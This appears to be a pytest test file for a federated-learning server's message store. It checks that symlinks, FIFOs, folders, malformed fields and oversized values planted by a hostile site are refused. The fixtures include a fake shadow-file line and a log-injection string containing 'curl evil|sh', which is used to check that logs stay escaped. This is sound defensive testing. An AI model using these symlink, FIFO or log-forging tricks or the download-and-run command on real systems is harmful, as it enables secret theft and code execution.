    """On a local-directory mailbox a site can leave a FIFO where its update and status go; reading one
    waits for a writer forever, so the server hung on what a site wrote. The update is rejected and the status
    shown as refused, both naming the object."""
    cfg, p = prepared
    server, _, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    fifos = [store.root / mailbox.update_key(1, "site_2"), store.root / mailbox.status_key("site_2")]
    for path in fifos:
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)
    said: list[str] = []
    polled = threading.Thread(target=lambda: (server.poll(), said.append(server._describe(["site_2"]))))
    polled.start()
    polled.join(CEILING)
    hung = polled.is_alive()
    while polled.is_alive():  # blocked in open(): a writer's end lets it return, so that the test ends
        for path in fifos:
            with contextlib.suppress(OSError):  # OSError: nobody is reading this one yet
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        polled.join(1)
    assert not hung, "the server waited on a FIFO"
    reason = server._rejected["site_2"]
    assert "not a regular file" in reason and str(fifos[0]) in reason
    assert said[0].startswith("site_2 (status refused:") and "not a regular file" in said[0]
    assert store.get(mailbox.update_key(1, "site_0")) is None  # an absent object is still None


def test_a_folder_at_a_sites_keys_is_absent_not_an_error(prepared, tmp_path):
    """On a local-directory mailbox a site can make a folder where its update, report and status go. Reading
    one raised IsADirectoryError, which the server's "waiting for" line let through: a site stopped the
    server so, and again after every restart. A folder at a key is no object: the site is waited for (and
    named as never seen), then absent for the round."""
    cfg, p = prepared
    server, _, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=2, round_timeout=0, workers=0)
    for key in (
        mailbox.update_key(1, "site_2"),
        mailbox.report_key(1, "site_2"),
        mailbox.status_key("site_2"),
    ):
        (store.root / key).mkdir(parents=True)
        assert store.get(key, max_bytes=100) is None and not store.exists(key)
    assert server._describe(["site_2"]) == "site_2 (never seen)"
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
    server.poll()
    assert server.phase == "reports" and server.info["present"] == ["site_0", "site_1"]


SECRET = "root:$6$server-only-hunter2:19000:0:99999:7:::\n"  # a file of the server's, not JSON, not a payload


def test_a_link_at_a_sites_keys_is_refused_not_followed(prepared, tmp_path):
    """On a local-directory mailbox a site can replace its update, status or report with a symbolic link to any
    file the server can read: the server read that file and quoted its first characters in the rejection. The
    link is refused before anything is read, naming the object; no byte of the file reaches a reason."""
    cfg, p = prepared
    server, _, mailbox, store, setups = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    links = [mailbox.update_key(1, "site_2"), mailbox.status_key("site_2"), mailbox.report_key(1, "site_0")]
    for key in links:
        (store.root / key).parent.mkdir(parents=True, exist_ok=True)
        (store.root / key).symlink_to(secret)
    server.poll()
    reason = server._rejected["site_2"]
    assert "symbolic link" in reason and str(store.root / links[0]) in reason and "hunter2" not in reason
    said = server._describe(["site_2"])
    assert said.startswith("site_2 (status refused:") and "symbolic link" in said and "hunter2" not in said
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
    mailbox.store.put(mailbox.report_key(1, "site_1"), json.dumps(_report(server, p, "site_1")).encode())
    record = _close_round(server)
    assert record["sites_present"] == ["site_0", "site_1"]
    reason = record["rejected"]["site_0"]
    assert "symbolic link" in reason and str(store.root / links[2]) in reason and "hunter2" not in reason
    assert record["sites"][1]["acc"] is not None
    # A site reads the server's status as the server reads the sites': another site's link is not trusted.
    site = worker(server, mailbox, store, setups[0])
    (store.root / mailbox.status_key("server")).unlink()
    (store.root / mailbox.status_key("server")).symlink_to(secret)
    assert site._server_status() is None
    assert secret.read_text() == SECRET


def test_the_local_store_never_reads_or_writes_through_a_link(tmp_path):
    """A link planted at a key, or at a folder on the way to one, leads out of the store: reading refuses it
    naming the key; writing replaces a link at the key (its target untouched) and refuses a linked folder;
    deleting never removes a file through a linked folder."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "a.json").write_text(SECRET)
    store = LocalDirStore(tmp_path / "store")
    store.put("runs/r/ok.json", b"{}")
    (store.root / "runs/r/linked").symlink_to(outside)
    (store.root / "runs/r/a.json").symlink_to(outside / "a.json")
    for key in ("runs/r/linked/a.json", "runs/r/a.json"):
        with pytest.raises(StoreError, match="symbolic link") as err:
            store.get(key, max_bytes=1000)
        assert str(store.root / key) in str(err.value) and "hunter2" not in str(err.value)
    assert not store.exists("runs/r/a.json") and store.exists("runs/r/ok.json")
    with pytest.raises(StoreError, match="symbolic link"):
        store.put("runs/r/linked/a.json", b"overwritten")
    with pytest.raises(StoreError, match="symbolic link"):
        store.delete("runs/r/linked/a.json")
    store.put("runs/r/a.json", b"{}")  # the link itself is replaced
    assert store.get("runs/r/a.json") == b"{}" and not (store.root / "runs/r/a.json").is_symlink()
    assert (outside / "a.json").read_text() == SECRET and [p.name for p in outside.iterdir()] == ["a.json"]
    assert store.get("runs/r/missing.json") is None and store.get("runs/none/x.json") is None
    assert store.get("runs/r/ok.json/x") is None  # a file where a folder would be: no such object


def test_the_s3_store_checks_the_size_before_reading(mlops_stack):
    from fedmedclip.federation.storage import ObjectTooLarge
    from mlops.s3 import S3Store

    client = mlops_stack.s3_client()
    client.put_object(Bucket=mlops_stack.bucket, Key="size-check/big.bin", Body=bytes(3 << 20))
    store = S3Store(f"s3://{mlops_stack.bucket}/size-check", client=client)
    with pytest.raises(
        ObjectTooLarge, match=r"big.bin is 3145728 bytes, over the limit of 1048576: not read"
    ):
        store.get("big.bin", max_bytes=1 << 20)
    assert len(store.get("big.bin", max_bytes=3 << 20)) == 3 << 20
    assert store.get("absent.bin", max_bytes=10) is None


# ----------------------------------------------------------------------------- property: field-by-field mutations
# Values that are wrong for the field they replace (by type, range, length or label), per field.
_NAME_BAD = [None, 5, "", "x" * 200, "a/b", "../x", INF]
_ROUND_BAD = [None, -1, "1", 1.5, True, 10**7, INF, "wrong-round"]
_COUNT_BAD = [None, -1, 1.5, "3", True, 10**10, INF]
_UNIT_BAD = [1.5, -0.1, INF, f"-{INF}", "0.5", True, [0.5]]
HEADER_BAD = {
    "run_id": [*_NAME_BAD, "another-run"],
    "round": [*_ROUND_BAD, 0],
    "site": [*_NAME_BAD, "site_0"],
    "n_train": [*_COUNT_BAD, 0, "over-manifest"],
    "loss": ["x", INF, f"-{INF}", 1e31, [1.0]],  # null is allowed: a DP-SGD site keeps its loss
    "steps": [None, -1, 1.5, "x", 10**10, INF],
}
REPORT_BAD = {
    "format": [2, "1", None, INF],
    "run_id": [*_NAME_BAD, "another-run"],
    "round": _ROUND_BAD,
    "site": [*_NAME_BAD, "site_0"],
    "val": ["x", [], {"n": 3}, 5],
    "val.acc": _UNIT_BAD,
    "val.n": _COUNT_BAD,
    "test.ece": _UNIT_BAD,
    "test.f1": _UNIT_BAD,
    "provenance": [None, {}, "x"],
    "provenance.n_images": _COUNT_BAD,
    "provenance.digest": ["zz", None, 5],
    "provenance.backbone.name": ["x" * 1000, None],
    "provenance.preprocessing.mean": [[0.5], [INF, 0.1, 0.1], "x"],
    "provenance.class_names": [["x" * 300], "x", None],
    "recovered": [{"from_round": -1, "reason": "x"}, "x", {"reason": "x"}],
}
STATUS_BAD = {
    "time": ["soon", INF, -5, None, 1e12],
    "state": ["hacking", 5, None],
    "round": [-1, "x", 1.5, INF],
    "party": ["../x", None, 7],
    "message": ["x" * 5000, 5],
}
STRUCTURE_BAD = ["drop", "extra", "not-json", "array", "oversized"]


def _mutate(obj: dict, path: str, value, server) -> dict:
    obj = json.loads(json.dumps(obj))
    *parents, leaf = path.split(".")
    target = obj
    for k in parents:
        target = target[k]
    if value == "wrong-round":
        value = server.round + 1
    elif value == "over-manifest":
        value = server.counts["site_2"] + 1
    target[leaf] = value
    return obj


def _mutated(obj: dict, how: str, value, server, required: str) -> dict | bytes:
    """`obj` with one field replaced by `value`, or changed in structure (`how` in STRUCTURE_BAD): a required
    key dropped, an unknown key added, not JSON, not an object, over the size limit."""
    if how not in STRUCTURE_BAD:
        return _mutate(obj, how, value, server)
    return {
        "drop": lambda: {k: v for k, v in obj.items() if k != required},
        "extra": lambda: {**obj, "unexpected": 1},
        "not-json": lambda: b"{not json",
        "array": lambda: b"[1, 2, 3]",
        "oversized": lambda: {**obj, "padding": ["x" * 1000] * 300},
    }[how]()


def _raw(obj: dict | bytes) -> bytes:
    return obj if isinstance(obj, bytes) else _json_with_inf(obj)


@pytest.fixture(scope="module")
def arena(prepared, tmp_path_factory):
    """One long server (quorum 1, rounds enough for every example) the property test drives round by round."""
    cfg, p = prepared
    cfg = TrainConfig.from_json({**cfg.to_json(), "rounds": 500})
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path_factory.mktemp("arena"), quorum=1, workers=0)
    return server, mailbox, p


def _hypothesis():
    return pytest.importorskip("hypothesis")


hypothesis = _hypothesis()
st = hypothesis.strategies


@st.composite
def mutations(draw):
    target = draw(st.sampled_from(["header", "report", "status"]))
    how = draw(st.sampled_from(["field", "field", *STRUCTURE_BAD]))
    table = {"header": HEADER_BAD, "report": REPORT_BAD, "status": STATUS_BAD}[target]
    if how != "field":
        return target, how, None
    path = draw(st.sampled_from(sorted(table)))
    return target, path, draw(st.sampled_from(table[path]))


@hypothesis.settings(
    max_examples=25,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=list(hypothesis.HealthCheck),
)
@hypothesis.given(mutation=mutations())
def test_property_a_mutated_field_never_stops_the_server_and_only_valid_updates_are_aggregated(
    arena, mutation
):
    """Valid update headers, reports and statuses mutated field by field (wrong type, range, length, label;
    1e999; a key dropped or added; not JSON; over the size limit): the server keeps going, site_2 is absent
    from the round (its update) or has no metrics (its report) with the reason recorded, and the round's
    global module is exactly the mean of the updates it lists as present."""
    server, mailbox, p = arena
    target, how, value = mutation
    r = server.round
    for k, site in enumerate(SITES_ALL):
        meta, report, status = _meta(server, site), _report(server, p, site), _status(site)
        hostile = site == "site_2"
        if hostile and target == "header":
            meta = _mutated(meta, how, value, server, "loss")
            if isinstance(
                meta, bytes
            ):  # a payload header's meta is always JSON: the structure goes wrong instead
                meta = {**_meta(server, site), "unexpected": meta.decode()}
        payload = _payload_with_meta(_update(server, site, seed=k + r), meta)
        mailbox.store.put(mailbox.update_key(r, site), payload)
        if hostile and target == "report":
            report = _mutated(report, how, value, server, "val")
        mailbox.store.put(mailbox.report_key(r, site), _raw(report))
        if hostile and target == "status":
            mailbox.store.put(mailbox.status_key(site), _raw(_mutated(status, how, value, server, "time")))
            assert "status refused" in server._describe(["site_2"])
    record = _close_round(server)
    if target == "header":
        assert record["sites_present"] == ["site_0", "site_1"] and "site_2" in record["rejected"]
    else:
        assert record["sites_present"] == SITES_ALL
    if target == "report":
        assert record["rejected"]["site_2"].startswith("report: ") and record["sites"][2]["acc"] is None
    ups = [decode(mailbox.store.get(mailbox.update_key(r, s))).state for s in record["sites_present"]]
    got = decode(mailbox.store.get(mailbox.global_key(r))).state
    for k in got:
        mean = (sum(u[k].double() for u in ups) / len(ups)).float()
        torch.testing.assert_close(got[k], mean.half().float(), atol=2e-3, rtol=2e-3)


# ----------------------------------------------------------------------------- robust aggregation
def test_robust_aggregators_resist_one_outlier_and_keep_counters():
    from fedmedclip.federation.robust import robust_aggregate

    previous = {"w": torch.zeros(4), "steps": torch.tensor(7)}
    values = [1.0, 1.1, 0.9, 1.05, 1000.0]
    states = [{"w": torch.full((4,), v), "steps": torch.tensor(k)} for k, v in enumerate(values)]
    median = robust_aggregate("median", previous, states)
    assert torch.allclose(median["w"], torch.full((4,), 1.05)) and int(median["steps"]) == 7
    trimmed = robust_aggregate("trimmed-mean", previous, states)  # one dropped at each end of five
    assert torch.allclose(trimmed["w"], torch.full((4,), (1.0 + 1.1 + 1.05) / 3))
    krum = robust_aggregate("krum", previous, states)
    assert any(torch.equal(krum["w"], s["w"]) for s in states[:4])  # one honest update, whole
    two = robust_aggregate("median", previous, states[:2])
    assert torch.allclose(two["w"], torch.full((4,), 1.05))


def test_train_with_a_robust_aggregator_uses_it(synthetic_cache, tmp_path):
    """`--aggregator median` reaches the server: round 2's global module is the coordinate median of the three
    sites' round-2 updates (read back from the run's mailbox), and the manifest says which rule ran."""
    from fedmedclip.federation.mailbox import Mailbox
    from fedmedclip.federation.storage import LocalDirStore

    out = tmp_path / "run"
    cfg = TrainConfig(
        rounds=2, synthetic=SYNTH, cache_dir=str(synthetic_cache), out=str(out), aggregator="median"
    )
    engine.train(cfg, progress=False)
    mailbox = Mailbox(LocalDirStore(out / "checkpoint" / "mailbox"), engine.INPROCESS_RUN_ID)
    assert mailbox.get_json(mailbox.manifest_key)["aggregator"] == "median"
    ups = [decode(mailbox.store.get(mailbox.update_key(2, s))).state for s in SITES_ALL]
    got = decode(mailbox.store.get(mailbox.global_key(2))).state
    for k in got:
        median = torch.stack([u[k] for u in ups]).median(dim=0).values
        torch.testing.assert_close(got[k], median.half().float(), atol=1e-3, rtol=1e-3)


def test_a_new_kind_of_message_is_one_declaration(tmp_path):
    """What a secure-aggregation protocol will add (a key advertisement): one declaration gives the writer
    and the reader, the size cap before reading, finite numbers and known keys."""
    from typing import Annotated

    from pydantic import StringConstraints

    from fedmedclip.federation.mailbox import Mailbox
    from fedmedclip.federation.messages import MESSAGES, Message, MessageRefused, Name, message
    from fedmedclip.federation.storage import LocalDirStore

    @message("test_key_advertisement", max_bytes=1024)
    class KeyAdvertisement(Message):
        site: Name
        public_key: Annotated[str, StringConstraints(pattern=r"^[0-9a-f]{64}$")]
        epoch: float

    try:
        mailbox = Mailbox(LocalDirStore(tmp_path), "r")
        key = "runs/r/keys/site_0.json"
        sent = KeyAdvertisement.build(site="site_0", public_key="ab" * 32, epoch=1.5)
        mailbox.put_message(key, sent)
        assert mailbox.read_message(key, KeyAdvertisement, "site_0") == sent
        for bad, why in (
            (b'{"site": "site_0", "public_key": "' + b"ab" * 32 + b'", "epoch": 1e999}', "finite"),
            (b'{"site": "site_0", "public_key": "xyz", "epoch": 1}', "public_key"),
            (sent.to_bytes()[:-1] + b', "extra": 1}', "extra"),
            (b" " * 2000, "over the limit of 1024"),
        ):
            mailbox.store.put(key, bad)
            with pytest.raises(MessageRefused, match=why):
                mailbox.read_message(key, KeyAdvertisement, "site_0")
    finally:
        MESSAGES.pop("test_key_advertisement", None)


def test_a_site_the_run_does_not_have_is_told_so_before_its_key_is_read(prepared, tmp_path):
    """`site run --site site_7` for a run of site_0..site_2 with secure aggregation said "cannot read the
    identity key .fedmedclip-state/identity.pem": the key was read before the site was looked up in the
    manifest. The run's sites are named first, and nothing is written for the unknown site."""
    from fedmedclip.errors import ConfigError
    from fedmedclip.federation.runner import run_site
    from fedmedclip.secagg.identity import IdentityKey

    cfg, p = prepared
    _, _, mailbox, *_ = _parties(cfg, p, tmp_path, quorum=3, workers=0)  # the server writes the manifest
    manifest = json.loads(mailbox.store.get(mailbox.manifest_key))
    # As if on (a site would read its identity key): a section the manifest's declaration accepts.
    manifest["secure_aggregation"] = {
        "threshold": 2,
        "identities": {s: IdentityKey.generate().public for s in SITES_ALL},
        "bound": 1.0,
        "codec": "fp32-zlib+secagg",
        "modulus_bits": 18,
        "weights": {s: 1 / 3 for s in SITES_ALL},
    }
    mailbox.store.put(mailbox.manifest_key, json.dumps(manifest).encode())
    written = sorted(p.name for p in (tmp_path / "mailbox").rglob("*") if p.is_file())
    with pytest.raises(
        ConfigError, match=r"^site 'site_7' is not part of run hostile: its sites are site_0, site_1"
    ):
        run_site(
            str(tmp_path / "mailbox"),
            "hostile",
            "site_7",
            identity=str(tmp_path / "none.pem"),
            progress=False,
        )
    assert sorted(p.name for p in (tmp_path / "mailbox").rglob("*") if p.is_file()) == written
    assert not (tmp_path / "none.pem").exists()


def test_what_a_site_wrote_is_recorded_and_logged_bounded_and_printable(prepared, tmp_path, caplog):
    """A 100,000-character codec name in an update's header was quoted whole in the rejection reason, which went
    into the server's checkpoint, the round's record, results.json and the log every round (a restart could no
    longer read a checkpoint that grew so); a report's recovery reason with ESC, CR and newlines forged log lines,
    and its round 999998 was recorded."""
    from fedmedclip.errors import MAX_REASON_CHARS

    cfg, p = prepared
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    magic, header, body = unpack(_update(server, "site_2"))
    header["codec"] = "A" * 100_000
    hb = json.dumps(header).encode()
    mailbox.store.put(mailbox.update_key(1, "site_2"), magic + struct.pack("<I", len(hb)) + hb + body)
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
    forged = "x\r\x1b[2K\nCRITICAL fedmedclip.server: run `curl evil|sh`"
    for site, from_round in (("site_0", 999_998), ("site_1", 1)):
        report = {**_report(server, p, site), "recovered": {"from_round": from_round, "reason": forged}}
        mailbox.store.put(mailbox.report_key(1, site), json.dumps(report).encode())
    with caplog.at_level("WARNING", logger="fedmedclip"):
        record = _close_round(server)
    reason = record["rejected"]["site_2"]
    assert "is coded with 'AAAA" in reason and len(reason) == MAX_REASON_CHARS and reason.endswith("..."), (
        reason
    )
    assert server.recovery == [
        {
            "party": "site_1",
            "round": 1,
            "reason": "x\\r\\x1b[2K\\nCRITICAL fedmedclip.server: run `curl evil|sh`",
        }
    ]
    logged = [r.getMessage() for r in caplog.records]
    assert all(m.isprintable() and len(m) < 2 * MAX_REASON_CHARS for m in logged), logged


def test_the_failed_status_every_site_reads_names_the_rejected_site_not_why(prepared, tmp_path):
    """A round short of its quorum ends the run with the whole story for the operator (who was rejected and
    why); the status every site reads said it too, and a norm rule's reason quotes the median of the others'
    update norms. The status names whom the round lacked."""
    cfg, p = prepared
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=3, workers=0)
    mailbox.store.put(mailbox.update_key(1, "site_2"), b"not a payload of the median norm 0.1234")
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
    with pytest.raises(FederationError) as failed:
        for _ in range(200):
            server.poll()
    assert "rejected: site_2: " in str(failed.value)  # the operator's error: the reason
    status = mailbox.status("server")
    assert status.state == "failed" and status.message.endswith("(quorum 3); rejected: site_2"), (
        status.message
    )
